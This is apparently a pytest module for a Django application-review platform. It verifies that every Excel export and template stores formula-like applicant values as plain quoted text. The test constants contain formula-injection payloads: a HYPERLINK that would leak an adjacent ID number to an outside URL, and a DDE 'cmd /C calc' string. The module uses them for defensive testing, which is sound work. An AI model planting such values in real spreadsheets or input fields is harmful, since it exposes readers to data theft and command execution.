"""No value the platform writes into a workbook reaches the reader as a formula. An applicant registered as
=HYPERLINK("http://…?"&B2,"点我") would otherwise be a live link beside their full ID number in the 评审表, and a
name or a unit in the 答辩安排 template the committee office opens. Every producer is run here with such values
(and values starting with +, -, @, tab and CR), and the files are read back: no formula anywhere, each such value
stored as text with Excel's quote prefix, and unchanged, so a re-imported template still matches its applicant."""

import datetime
import io
import re
import zipfile
from importlib import import_module
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from applications.models import Application, Defence, PrintFile
from dossier.catalogue import catalogue
from experts import services as expert_services
from tests.applications.support import download, login
from tests.factories import PersonFactory

from .support import filed, walk

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://x?"&B2,"点我")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
OTHERS = {"plus": "+1+1", "minus": "-1+1", "at": "@A1", "tab": "\t=1+1", "cr": "\r=1+1"}

# Every module that builds or serialises a workbook, and the test here that runs it with such values. A new
# producer (a module importing openpyxl, or calling the template or workbook writers) fails the last test until
# it is added, and run, here.
COVERED = {
    "core/excel.py": "test_record_templates_have_no_formula",
    "dossier/imports.py": "test_record_templates_have_no_formula",
    "applications/defences.py": "test_the_defence_template_keeps_applicants_values_as_text",
    "applications/review_workbook.py": "test_the_review_workbook_keeps_the_applicants_values_as_text",
    "applications/publicity.py": "test_the_publicity_roster_keeps_the_applicants_values_as_text",
    "applications/statistics.py": "test_the_statistics_export_keeps_values_as_text",
    "core/exports.py": "test_the_desk_export_keeps_the_applicants_values_as_text",
    "experts/services.py": "test_the_expert_pool_template_has_no_formula",
}


def read_back(content: bytes) -> list[tuple[str, object]]:
    """Every non-empty cell as (where, value); asserts that no part of the file holds a formula and that every
    value a spreadsheet would take for one is a string cell with the quote prefix."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)), name
    cells = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                cells.append((f"{sheet.title}!{cell.coordinate}", cell.value))
    return cells


def as_read(value):
    """A carriage return comes back as a line feed or as itself, depending on the XML parser openpyxl finds."""
    return value.replace("\r", "\n") if isinstance(value, str) else value


@pytest.fixture
def poisoned(org):
    """An applicant named like a formula, at a unit named like one, with section values starting with each of
    the other characters."""
    org.unit.name = UNIT
    org.unit.save()
    person = PersonFactory(unit=org.unit, name=LINK, series="工程技术")
    data = {
        "basic": {"values": {"current_specialty": OTHERS["plus"], "admin_post": OTHERS["tab"]}},
        "papers": {"rows": [{"id": "p1", "values": {"title": OTHERS["minus"], "journal": OTHERS["at"],
                                                    "issn": OTHERS["cr"], "published_on": "2020-01-02"}}]},
    }
    return filed(org, person=person, data=data)


def test_the_review_workbook_keeps_the_applicants_values_as_text(client, poisoned):
    login(client, poisoned.applicant)

    response = download(client, poisoned, "review.xlsx")

    assert response.status_code == 200
    values = [as_read(value) for _where, value in read_back(response.content)]
    for value in (LINK, UNIT):
        assert as_read(value) in values, value
    for value in OTHERS.values():  # some within a cell of the form (刊物 with its 期刊号: "@A1（\r=1+1）")
        assert any(as_read(value) in str(cell) for cell in values), value
    assert f"{as_read(OTHERS['at'])}（" in [str(cell)[:4] for cell in values]  # a cell that starts with one
    assert poisoned.applicant.id_number in values  # the cell a link beside it would have sent away


def test_the_publicity_roster_keeps_the_applicants_values_as_text(org, client, poisoned):
    login(client, org.clerk)

    response = client.get(reverse("chain:unit_publicity", args=[org.plan.pk, "xlsx"]))

    assert response.status_code == 200
    values = [as_read(value) for _where, value in read_back(response.content)]
    assert LINK in values and as_read(OTHERS["plus"]) in values
    assert any(UNIT in str(value) for value in values)  # in the header line 单位（盖章）：…


def test_the_statistics_export_keeps_values_as_text(org, client, poisoned):
    poisoned.series = OTHERS["minus"]
    poisoned.save()
    login(client, org.bureau)

    response = client.get(reverse("chain:stats") + f"?plan={org.plan.pk}&format=xlsx")

    assert response.status_code == 200
    assert as_read(OTHERS["minus"]) in [as_read(value) for _where, value in read_back(response.content)]


def test_the_desk_export_keeps_the_applicants_values_as_text(org, client, poisoned):
    login(client, org.clerk)

    response = client.get(reverse("chain:unit") + "?status=all&format=xlsx")

    assert response.status_code == 200
    values = [value for _where, value in read_back(b"".join(response.streaming_content))]
    assert LINK in values and UNIT in values


def test_a_review_workbook_stored_before_the_fix_is_made_again(client, poisoned):
    login(client, poisoned.applicant)
    download(client, poisoned, "review.xlsx")
    assert PrintFile.objects.filter(application=poisoned, kind="review_xlsx").count() == 1

    state = MigrationExecutor(connection).loader.project_state(("applications", "0005_review_xlsx_reprint"))
    import_module("applications.migrations.0005_review_xlsx_reprint").drop_stored_workbooks(state.apps, None)

    assert not PrintFile.objects.filter(application=poisoned, kind="review_xlsx").exists()
    assert download(client, poisoned, "review.xlsx").status_code == 200


def test_the_defence_template_keeps_applicants_values_as_text(org, client, poisoned):
    application = walk(org, poisoned, to="accepted")
    day = timezone.localdate() + datetime.timedelta(days=10)
    Defence.objects.create(application=application, arranged_by=org.committee, group=OTHERS["plus"],
                           starts_at=timezone.make_aware(datetime.datetime.combine(day, datetime.time(9, 30))),
                           place=OTHERS["minus"], seq=1, notes=OTHERS["tab"])
    login(client, org.committee)

    response = client.get(reverse("chain:defences_template"))

    values = dict(read_back(response.content))
    listed = [where for where, value in values.items() if value == LINK]
    assert listed, values
    line = listed[0].split("!B")[1]
    row = [values.get(f"答辩安排!{letter}{line}") for letter in "ABCDEFGHIJK"]
    assert row[1] == LINK and row[3] == UNIT
    assert (row[5], row[8], row[10]) == (OTHERS["plus"], OTHERS["minus"], OTHERS["tab"])


def test_an_applicant_named_like_a_formula_is_arranged_from_the_template(org, client, poisoned):
    """The value is kept, not rewritten ('=… would no longer match the applicant's name on import)."""
    application = walk(org, poisoned, to="accepted")
    login(client, org.committee)
    workbook = load_workbook(io.BytesIO(client.get(reverse("chain:defences_template")).content))
    sheet = workbook.worksheets[0]
    line = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(row=r, column=1).value == str(application.pk))
    day = timezone.localdate() + datetime.timedelta(days=10)
    for column, value in zip(range(6, 12), ["内科学组", day, "09:30", "第一会议室", 1, None]):
        sheet.cell(row=line, column=column, value=value)
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = client.post("/chain/committee/defences/", {"file": SimpleUploadedFile("答辩安排.xlsx", buffer.getvalue())})

    assert response.status_code == 302, response.context and response.context.get("file_error")
    assert Defence.objects.get().application_id == application.pk
    assert Application.objects.get(pk=application.pk).applicant.name == LINK


def test_the_expert_pool_template_has_no_formula():
    cells = read_back(expert_services.import_template())
    assert "聘期开始" in {value for _, value in cells}


def test_record_templates_have_no_formula(client, org):
    login(client, org.clerk)
    urls = []
    for kind in catalogue().kinds():
        if kind.importable:
            urls.append(reverse("dossier:template", kwargs={"kind_key": kind.key}))
        for child in kind.children:
            urls.append(reverse("dossier:child_template", kwargs={"kind_key": kind.key, "child_key": child.key}))
    assert urls
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert read_back(response.content), url


def test_every_workbook_producer_is_checked_here():
    base = Path(settings.BASE_DIR)
    producers = set()
    for path in base.rglob("*.py"):
        relative = path.relative_to(base).as_posix()
        if relative.split("/")[0] in ("tests", "bench", ".venv", "var", "scripts") or "/migrations/" in relative:
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"^\s*(from|import) openpyxl", source, re.M) or re.search(r"\b(template|workbook)_bytes\(",
                                                                                source):
            producers.add(relative)
    assert producers == set(COVERED)
